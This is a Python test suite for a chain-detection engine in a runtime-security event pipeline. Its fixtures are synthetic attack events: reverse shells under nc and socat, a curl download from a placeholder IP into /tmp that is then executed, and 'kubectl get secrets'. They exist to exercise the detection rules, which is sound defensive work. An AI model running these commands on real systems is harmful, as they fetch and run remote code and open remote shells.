"""Parked step rows (transforms/chain_park.py): the shortcut must never change an alert.

A row of a later step whose keys have no chain is kept as Arrow instead of
being visited in Python. These tests try to break that: a chain whose first
step came many batches before the key's later events, a later step delivered
(and parked) before its first step, found through its parent or an ancestor,
across a restart, at the edge of the tolerance, under the state bound; and a
property test that runs random streams in random micro-batches through the
engine with and without parking and wants the same alerts.
"""

from __future__ import annotations

import datetime as dt
import json
import random
import shutil
from pathlib import Path
from typing import Any

import pyarrow as pa
from test_chains import RULES, T0, _alert_lines, _backtested, _connect, _exec, _ingest, _kprobe, _stored

from tetrapipe.lake import Lake
from tetrapipe.ruleset import load_ruleset
from tetrapipe.ruleset.model import Rule
from tetrapipe.transforms.chains import ChainEngine

S = dt.timedelta(seconds=1)


def _write(t: dt.datetime, pid: int, path: str) -> str:
    """``cp`` writing ``path`` (file-monitoring's write hook) in the test container."""
    body = {"function_name": "security_file_permission", "policy_name": "file-monitoring"}
    body["args"] = [{"file_arg": {"path": path, "permission": "-rwxr-xr-x"}}, {"int_arg": 2}]
    return _kprobe(t, pid, "/bin/cp", 900, body | {"return": {"int_arg": 0}, "action": "KPROBE_ACTION_POST"})


def _noise(t: dt.datetime, n: int, pid: int) -> list[str]:
    """``n`` execs of /usr/bin/id 10 ms apart in another container: second steps of
    chain-bindir-write-exec with no chain to join, which the engine parks."""
    out = []
    for i in range(n):
        event = json.loads(_exec(t + i * dt.timedelta(milliseconds=10), pid + i, "/usr/bin/id", "", 900, "/bin/sh"))
        proc = event["process_exec"]["process"]
        proc["pod"] = json.loads(json.dumps(proc["pod"]))
        proc["pod"]["name"] = "batch-6f7d9-x1y2z"
        proc["pod"]["container"]["id"] = "containerd://" + "ab" * 32
        proc["docker"] = "ab" * 15 + "a"
        out.append(json.dumps(event, separators=(",", ":")))
    return out


def test_parked_rows_complete_chains_across_batches_out_of_order_and_a_restart(tmp_path: Path) -> None:
    t = T0
    lines: list[str] = []
    at: dict[str, int] = {}

    def add(name: str | None, *new: str) -> None:
        lines.extend(new)
        if name:
            at[name] = len(lines)

    # a binary below /usr/local/bin runs 0.5 s after it is written, but its exec is delivered first (parked)
    add("run_helm", _exec(t + 0.5 * S, 1, "/usr/local/bin/helm", "ls", 900, "/bin/sh"))
    add(None, *_noise(t + 0.6 * S, 8, 1000))
    add("write_helm", _write(t, 2, "/usr/local/bin/helm"))
    # a write, then a minute of other containers' noise (many micro-batches), then that file runs
    add("write_kubectl", _write(t + 10 * S, 3, "/usr/local/bin/kubectl"))
    add(None, *_noise(t + 11 * S, 30, 2000))
    add("run_kubectl", _exec(t + 60 * S, 4, "/usr/local/bin/kubectl", "get secrets", 900, "/bin/sh"))
    # reverse shell: the shell (child of 21) is delivered batches before 21's connect, 0.5 s earlier
    add("shell_1", _exec(t + 70.5 * S, 22, "/bin/sh", "", 21, "/usr/bin/nc"))
    add(None, *_noise(t + 70.6 * S, 8, 3000))
    add("connect_1", _connect(t + 70 * S, 21, "203.0.113.7"))
    # again, with a restart between the shell and its connect
    add("shell_2", _exec(t + 80.5 * S, 32, "/bin/bash", "-i", 31, "/usr/bin/socat"))
    add(None, *_noise(t + 80.6 * S, 8, 4000))
    first_run = len(lines)
    add("connect_2", _connect(t + 80 * S, 31, "203.0.113.8"))
    # shell 51 -> sh -c 52 -> curl 53: the download (below the shell through an ancestor) comes before the shell
    add(None, _exec(t + 100 * S, 52, "/bin/sh", "-c 'curl -so /tmp/x http://198.51.100.9/x'", 51, "/bin/bash"))
    add("download", _exec(t + 100.2 * S, 53, "/usr/bin/curl", "-so /tmp/x http://198.51.100.9/x", 52, "/bin/sh"))
    add(None, *_noise(t + 100.3 * S, 3, 5000))
    add("shell_3", _exec(t + 99.9 * S, 51, "/bin/bash", "", 50, "/usr/local/sbin/runc"))
    add("payload", _exec(t + 101 * S, 54, "/tmp/x", "", 52, "/bin/sh"))

    log, lake = tmp_path / "tetragon.log", Lake(tmp_path / "lake")
    log.write_text("\n".join(lines[:first_run]) + "\n")
    _ingest(log, lake, chunk_bytes=1024)  # one or two events per micro-batch
    with log.open("a") as f:
        f.write("\n".join(lines[first_run:]) + "\n")
    _ingest(log, lake, chunk_bytes=1024)  # a new process: chains and parked rows come back from the history

    assert sorted(_alert_lines(lake, "chain-bindir-write-exec")) == sorted(
        [(at["write_helm"], at["run_helm"]), (at["write_kubectl"], at["run_kubectl"])]
    )
    assert sorted(_alert_lines(lake, "chain-reverse-shell")) == sorted(
        [(at["connect_1"], at["shell_1"]), (at["connect_2"], at["shell_2"])]
    )
    assert _alert_lines(lake, "chain-shell-download-exec") == [(at["shell_3"], at["download"], at["payload"])]
    assert _backtested(lake) == _stored(lake)


def _table(engine: ChainEngine, rows: list[dict[str, Any]]) -> pa.Table:
    """Step rows as the detector hands them over: the engine's columns and a ``_q{r}`` mask per rule."""
    table = pa.Table.from_pylist([{c: row.get(c) for c in engine.columns} for row in rows])
    for r in range(len(engine.rules)):
        table = table.append_column(f"_q{r}", pa.array([row.get(f"_q{r}", 0) for row in rows], pa.int64()))
    return table


def _shell_rows(late_s: float) -> list[list[dict[str, Any]]]:
    """chain-reverse-shell: a shell of parent p (parked), noise moving event time on by ``late_s``, p's connect."""
    shell = {"event_id": "s", "time": T0 + 0.5 * S, "exec_id": "c", "parent_exec_id": "p", "_q0": 2}
    noise = {"event_id": "n", "time": T0 + (0.5 + late_s) * S, "exec_id": "z", "parent_exec_id": "y", "_q0": 0}
    connect = {"event_id": "k", "time": T0, "exec_id": "p", "parent_exec_id": "q", "_q0": 1}
    return [[shell], [noise], [connect]]


def test_a_parked_row_waits_twice_the_tolerance_for_its_first_step_and_no_longer() -> None:
    rule = load_ruleset([RULES]).get("chain-reverse-shell")
    assert rule.sequence.tolerance_seconds == 2
    for late_s, fires in [(3.9, True), (4.1, False)]:
        for park in (True, False):
            engine = ChainEngine([rule], park=park)
            alerts = []
            for batch in _shell_rows(late_s):
                alerts.append(engine.feed(_table(engine, batch)))
                if len(alerts) == 1:
                    assert engine.stats.parked == int(park) and engine.stats.held == 1
            assert engine.stats.parked == 0  # picked up, or expired
            assert sum(a.num_rows for a in alerts) == int(fires), (late_s, park)
            if fires:
                assert alerts[-1].column("event_ids").to_pylist() == [["k", "s"]]


def test_the_bound_evicts_parked_rows_first_and_counts_them() -> None:
    rule = load_ruleset([RULES]).get("chain-reverse-shell")
    engine = ChainEngine([rule], max_partials=10)
    ms = dt.timedelta(milliseconds=1)  # all within the tolerance: nothing expires, only the bound drops
    shells = [
        {"event_id": f"s{i}", "time": T0 + i * ms, "exec_id": f"c{i}", "parent_exec_id": f"p{i}", "_q0": 2}
        for i in range(30)
    ]
    engine.feed(_table(engine, shells))
    assert (engine.stats.parked, engine.stats.held, engine.stats.evicted) == (10, 10, 20)
    connects = [{"event_id": f"k{i}", "time": T0 + (30 + i) * ms, "exec_id": f"x{i}", "_q0": 1} for i in range(5)]
    engine.feed(_table(engine, connects))
    # partial chains stay while held rows are at least as many: 5 chains, 5 rows, 25 evicted in all
    assert (engine.stats.partials, engine.stats.held, engine.stats.evicted) == (5, 5, 25)


SHAPES = """
id: {id}
title: t
description: d
severity: high
sequence:
  by: {by}
  within: {within}
  tolerance: {tolerance}
{until}  steps:
{steps}output: "{output}"
"""


def _shapes(root: Path) -> list[Rule]:
    """The shipped chains and three more shapes: by pod with until and a join, by workload with a
    first-seen first step and a 1 s tolerance, a four-step lineage with until and a parent join."""
    shutil.copytree(RULES / "lib", root / "lib")
    for p in RULES.glob("chain-*.yaml"):
        shutil.copy(p, root / p.name)
    until = "  until:\n    event: process_exit\n    condition: 'true'\n"

    def step(name: str, extra: str = "") -> str:
        return f"    - name: {name}\n      event: process_exec\n      condition: 'true'\n{extra}"

    shapes = [
        (
            "shape-pod",
            "pod",
            "20s",
            "2s",
            until,
            [step("a"), step("b", "      join: {process_binary: a.file_path}\n"), step("c")],
            "{a.process_binary} {process_binary}",
        ),
        (
            "shape-workload",
            "workload",
            "10s",
            "1s",
            "",
            [step("a", "      first_seen: [daddr]\n"), step("b")],
            "{a.daddr} {process_binary}",
        ),
        (
            "shape-lineage",
            "lineage",
            "15s",
            "3s",
            until,
            [step("a"), step("b"), step("c", "      join: {parent_exec_id: b.exec_id}\n"), step("d")],
            "{a.exec_id} {c.exec_id} {process_binary}",
        ),
    ]
    for rid, by, within, tol, u, steps, output in shapes:
        text = SHAPES.format(id=rid, by=by, within=within, tolerance=tol, until=u, steps="".join(steps), output=output)
        (root / f"{rid}.yaml").write_text(text)
    rs = load_ruleset([root])
    assert not rs.errors, rs.errors
    rules = [r for r in rs.enabled() if r.sequence is not None]
    assert len(rules) == 7
    return rules


def _stream(rng: random.Random, rules: list[Rule], n: int, jitter_s: float) -> list[dict[str, Any]]:
    """``n`` step rows over a few keys (so chains form and collide), some up to ``jitter_s`` out of order."""
    procs = [f"x{i}" for i in range(rng.choice([4, 8, 20]))]
    rows, t = [], 0.0
    for i in range(n):
        t += rng.expovariate(1 / rng.choice([0.2, 1.0, 3.0]))
        row: dict[str, Any] = {
            "event_id": f"{i:08x}" if rng.random() > 0.02 else f"{max(0, i - 3):08x}",  # a few redelivered
            "time": T0 + (t - (rng.uniform(0, jitter_s) if rng.random() < 0.3 else 0)) * S,
            "kind": "process_exec",
            "exec_id": rng.choice(procs),
            "parent_exec_id": rng.choice(procs),
            "ancestor_exec_ids": rng.sample(procs, rng.randint(0, 3)),
            "container_id": rng.choice(["c0", "c1", "c2", ""]),
            "namespace": rng.choice(["n0", "n1", None]),
            "pod": rng.choice(["p0", "p1", ""]),
            "workload": rng.choice(["w0", "w1", None]),
            "process_binary": rng.choice(["/a", "/b", "/c", None]),
            "file_path": rng.choice(["/a", "/b", "/c", None]),
            "daddr": rng.choice(["192.0.2.1", "192.0.2.2", "192.0.2.3", None]),
        }
        for r, rule in enumerate(rules):
            bits = len(rule.sequence.steps) + (1 if rule.sequence.until else 0)
            mask = 0
            if rng.random() < 0.5:
                mask = 1 << rng.randrange(bits)
                if rng.random() < 0.1:
                    mask |= 1 << rng.randrange(bits)
            row[f"_q{r}"] = mask
        rows.append(row)
    return rows


def _run(rules: list[Rule], rows: list[dict[str, Any]], cuts: list[int], *, park: bool) -> tuple[list, tuple, int]:
    engine = ChainEngine(rules, park=park)
    alerts, parked = [], 0
    for a, b in zip(cuts, cuts[1:], strict=False):
        if b > a:
            out = engine.feed(_table(engine, rows[a:b]))
            alerts += [(x["alert_id"], x["event_ids"], x["message"], x["dedup_key"]) for x in out.to_pylist()]
            parked = max(parked, engine.stats.parked)
    return alerts, (engine.stats.partials, engine.stats.completed, engine.stats.evicted), parked


def test_random_streams_in_random_micro_batches_alert_the_same_with_and_without_parking(tmp_path: Path) -> None:
    """Out of order by less than the smallest tolerance (1 s): parking must be invisible."""
    rules = _shapes(tmp_path)
    alerts = parked = 0
    for seed in range(60):
        rng = random.Random(seed)
        n = rng.choice([5, 40, 150, 300])
        rows = _stream(rng, rules, n, rng.choice([0.0, 0.5, 0.9]))
        cuts = sorted({0, n, *(rng.randrange(n + 1) for _ in range(rng.randint(0, 12)))})
        got, state, most = _run(rules, rows, cuts, park=True)
        want, want_state, _ = _run(rules, rows, cuts, park=False)
        assert got == want and state == want_state, seed
        alerts += len(got)
        parked += most
    assert alerts > 1_000 and parked > 200  # the chains did form, and parking did happen
